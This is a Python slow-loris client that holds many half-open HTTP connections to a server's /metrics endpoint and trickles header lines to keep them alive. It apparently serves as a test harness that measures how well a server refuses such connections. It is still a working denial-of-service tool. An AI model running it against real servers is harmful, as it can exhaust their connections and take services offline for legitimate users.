#!/usr/bin/python3
"""A slow-loris client for /metrics: holds as many connections to HOST:PORT
as the server lets it, each sending the start of a request and then one
header line every --trickle seconds, never ending it.

  slowloris.py HOST PORT --for SECONDS [--want N] [--trickle S] [--refill S]
               [--sources ADDR,ADDR,...] [--ready FILE] [--report FILE]

Every --refill seconds (counted from the start, so the refills come at fixed
times) it tops up to --want connections per source address (default: the
kernel's choice of one); a connection the server refuses (closed at once, or
a 503) is dropped. It writes --ready once the first round is open, and at
the end one line of JSON to --report (and stdout): the most connections it
held at once, how many it held that the server closed (not counting those
refused at once), and the longest time one of those lived (seconds)."""
import argparse
import json
import select
import socket
import time

HELD_S = 1.0  # a connection the server keeps this long was let in, not refused


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--for", dest="duration", type=float, required=True)
    ap.add_argument("--want", type=int, default=64)
    ap.add_argument("--trickle", type=float, default=1.0)
    ap.add_argument("--refill", type=float, default=3.0)
    ap.add_argument("--sources", default="")
    ap.add_argument("--ready")
    ap.add_argument("--report")
    a = ap.parse_args()
    sources = [s for s in a.sources.split(",") if s] or [None]

    start = time.monotonic()
    held = {}  # socket -> [source, opened, last trickle, lines sent]
    stats = {"max_held": 0, "opened": 0, "refused": 0, "closed_by_server": 0, "longest_closed": 0.0,
             "longest_open": 0.0}
    next_refill = start

    def top_up():
        for src in sources:
            mine = sum(1 for v in held.values() if v[0] == src)
            for _ in range(a.want - mine):
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                s.settimeout(1.0)
                try:
                    if src:
                        s.bind((src, 0))
                    s.connect((a.host, a.port))
                    s.sendall(b"GET /metrics HTTP/1.1\r\nHost: tessera\r\n")
                except OSError:
                    s.close()
                    stats["refused"] += 1
                    continue
                s.setblocking(False)
                now = time.monotonic()
                held[s] = [src, now, now, 0]
                stats["opened"] += 1

    def drop(s, by_server):
        v = held.pop(s)
        life = time.monotonic() - v[1]
        if by_server:
            # a connection refused at once is not one the server held
            if life >= HELD_S:
                stats["closed_by_server"] += 1
                stats["longest_closed"] = max(stats["longest_closed"], life)
            else:
                stats["refused"] += 1
        s.close()

    first = True
    while time.monotonic() - start < a.duration:
        now = time.monotonic()
        if now >= next_refill:
            top_up()
            next_refill += a.refill
            # let the server answer (refuse) what it does not want before counting
            time.sleep(0.2)
        readable = select.select(list(held), [], [], 0)[0] if held else []
        for s in readable:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data or data.startswith(b"HTTP/1.1 503"):
                drop(s, True)
        # held: let in, not refused; a refusal may take a loaded server a
        # while, so only what has lived a second counts
        now = time.monotonic()
        stats["max_held"] = max(stats["max_held"], sum(1 for v in held.values() if now - v[1] >= HELD_S))
        if first:
            first = False
            if a.ready:
                with open(a.ready, "w") as f:
                    f.write("%d\n" % len(held))
        now = time.monotonic()
        for s, v in list(held.items()):
            if now - v[2] >= a.trickle:
                try:
                    s.send(b"X-Slow-%d: still here\r\n" % v[3])
                    v[2] = now
                    v[3] += 1
                except OSError:
                    drop(s, True)
        time.sleep(0.05)
    now = time.monotonic()
    for s, v in list(held.items()):
        stats["longest_open"] = max(stats["longest_open"], now - v[1])
        s.close()
    line = json.dumps(stats)
    print(line)
    if a.report:
        with open(a.report, "w") as f:
            f.write(line + "\n")


if __name__ == "__main__":
    main()
